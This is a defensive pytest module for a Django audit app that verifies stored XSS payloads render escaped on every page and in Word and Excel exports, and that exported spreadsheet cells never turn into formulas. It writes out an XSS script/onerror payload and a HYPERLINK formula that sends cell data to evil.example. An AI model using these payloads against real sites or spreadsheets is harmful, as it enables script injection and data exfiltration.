"""Stored XSS: markup typed into any free-text field is shown as text, everywhere.

Every free-text field of the audit world holds a payload; every page of the
audit table is read as several roles and must never contain the payload's raw
markup; the pages that show a field show it escaped; the exports hold the
literal text.
"""

import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from directives import services as directive_services
from reports import services as report_services
from tests.security.test_url_audit import GET_CASES, url_of
from tests.security.world import build_world, kept_for_the_module, login

# Many requests, none reading response.context: rendered as in production.
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("untracked_templates")]

PAYLOAD = "<script>alert('xss')</script><img src=x onerror=alert(1)>"
ESCAPED = "&lt;script&gt;alert(&#x27;xss&#x27;)&lt;/script&gt;"
RAW_MARKERS = ("<script>alert", "<img src=x onerror")

# A meeting's own free-text fields, all shown on its page.
MEETING_FIELDS = [
    "meeting_title",
    "chair_name",
    "chair_positions",
    "basis",
    "venue",
    "assessment",
    "meeting_shortcomings",
]
FIELDS = [
    "text",
    "unit_name",
    "unit_short_name",
    "indicator_name",
    "people_situation",
    "results",
    "shortcomings",
    "next_plan",
    "recommendations",
    *MEETING_FIELDS,
    "topic",
    "directive_title",
    "directive_text",
    "progress_description",
    "deadline_reason",
    "recommendation_text",
    "recommendation_response",
]


def tagged(field: str) -> str:
    return f"{field}:{PAYLOAD}"


@pytest.fixture(scope="module")
def built_world(django_db_setup, django_db_blocker, tmp_path_factory):
    """The audit world with a payload in every text, built once for the module."""
    with kept_for_the_module(django_db_blocker, tmp_path_factory, _tagged_world) as world:
        yield world


def _tagged_world():
    # Titles are short (directive title ≤ 300, chair name ≤ 120): the payload fits.
    w = build_world(**{field: tagged(field) for field in FIELDS})
    reviewer = w.users["reviewer"]
    report_services.report_return(
        report=w.u_submitted, user=reviewer, comment=tagged("review_comment")
    )
    directive_services.progress_reject(
        user=reviewer, update=w.update_v_normal, comment=tagged("progress_comment")
    )
    directive_services.deadline_change_decide(
        user=reviewer, change=w.change_u, approve=False, comment=tagged("decision_comment")
    )
    w.indicator_value = w.u_submitted.values.get()
    w.indicator_value.note = tagged("value_note")
    w.indicator_value.save()
    return w


def html_pages(client, world, role):
    login(client, world, role)
    for _case, name, kwargs, expected in GET_CASES:
        if expected[role] != 200:
            continue
        url = url_of(world, name, kwargs)
        response = client.get(url)
        if response.get("Content-Type", "").startswith("text/html"):
            yield url, response.content.decode()


@pytest.mark.parametrize("role", ["reporter_u", "reporter_v", "reviewer", "leader", "admin"])
def test_no_page_ever_contains_the_raw_markup(client, world, role):
    leaks = [
        f"{url}: {marker}"
        for url, html in html_pages(client, world, role)
        for marker in RAW_MARKERS
        if marker in html
    ]
    assert not leaks, "\n".join(leaks)


def page(client, world, role, name, **kwargs) -> str:
    login(client, world, role)
    response = client.get(reverse(name, kwargs=kwargs or None))
    assert response.status_code == 200
    return response.content.decode()


@pytest.mark.parametrize(
    ("role", "url_name", "kwargs", "fields"),
    [
        (
            "reporter_u",
            "reports:report",
            {"unit_code": "u", "quarter": "2024-q1"},
            [
                "unit_name",
                "people_situation",
                "results",
                "shortcomings",
                "next_plan",
                "recommendations",
                "review_comment",
                "indicator_name",
                "value_note",
            ],
        ),
        ("reviewer", "reports:queue_quarter", {"quarter": "2024-q2"}, ["unit_name"]),
        (
            "reviewer",
            "meetings:detail",
            {"pk": "meeting"},
            [
                *MEETING_FIELDS,
                "directive_title",
                "recommendation_text",
                "recommendation_response",
            ],
        ),
        (
            "reviewer",
            "directives:detail",
            {"pk": "directive"},
            [
                "directive_title",
                "directive_text",
                "topic",
                "progress_description",
                "progress_comment",
                "deadline_reason",
                "decision_comment",
                "unit_short_name",
            ],
        ),
        (
            "reviewer",
            "directives:review",
            {},
            ["progress_description", "deadline_reason"],
        ),
        ("reporter_u", "directives:register", {}, ["directive_title"]),
        ("leader", "directives:dashboard", {}, ["unit_name"]),
    ],
)
def test_pages_that_show_a_field_show_it_escaped(client, world, role, url_name, kwargs, fields):
    kwargs = {
        key: getattr(world, value).pk if isinstance(value, str) and hasattr(world, value) else value
        for key, value in kwargs.items()
    }
    html = page(client, world, role, url_name, **kwargs)
    missing = [field for field in fields if f"{field}:{ESCAPED}" not in html]
    assert not missing, f"not shown escaped on {url_name}: {missing}"


def docx_text(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("word/document.xml").decode()


def xlsx_values(content: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return "\n".join(
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    )


def download(client, world, role, name, **kwargs) -> bytes:
    login(client, world, role)
    response = client.get(reverse(name, kwargs=kwargs))
    assert response.status_code == 200
    return response.content


def test_the_word_documents_hold_the_literal_text(client, world):
    world.u_submitted.refresh_from_db()
    report = docx_text(
        download(client, world, "reviewer", "quarters:report_docx", quarter="2024-q1")
    )
    notice = docx_text(
        download(
            client,
            world,
            "reviewer",
            "quarters:notice_docx",
            quarter="2024-q1",
            pk=world.meeting.pk,
        )
    )
    # Word XML escapes the text itself: the payload is characters, never markup.
    escaped_in_xml = "&lt;script&gt;alert('xss')&lt;/script&gt;"
    assert f"directive_title:{escaped_in_xml}" in notice
    assert "short_name:" in notice + report  # the unit, by its short name
    for document in (report, notice):
        assert "<script>" not in document


def test_the_spreadsheets_hold_the_literal_text(client, world):
    indicators = xlsx_values(
        download(client, world, "reviewer", "quarters:indicators_xlsx", quarter="2024-q1")
    )
    register = xlsx_values(
        download(client, world, "reviewer", "quarters:directives_xlsx", quarter="2024-q1")
    )
    assert tagged("indicator_name") in indicators
    assert tagged("directive_title") in register
    assert tagged("unit_short_name") in register


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'


@pytest.mark.parametrize("export", ["quarters:directives_xlsx", "quarters:indicators_xlsx"])
def test_spreadsheet_cells_never_become_formulas(client, world, export):
    """Text that starts with "=" stays text: opening the file runs nothing (formula injection)."""
    world.directive.title = FORMULA
    world.directive.save()
    world.unit_u.short_name = FORMULA[:80]
    world.unit_u.save()
    world.indicator.name = FORMULA
    world.indicator.save()
    book = openpyxl.load_workbook(
        io.BytesIO(download(client, world, "reviewer", export, quarter="2024-q1"))
    )
    # The only formulas are the export's own totals over its own cells (a SUBTOTAL of a
    # column of figures, empty when it has none); no text typed by anyone is one.
    own_total = re.compile(r'=IF\(SUBTOTAL\(2,(([A-Z]+)\d+:\2\d+)\)=0,"",SUBTOTAL\([19],\1\)\)')
    formulas = [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and not own_total.fullmatch(str(cell.value))
    ]
    assert not formulas
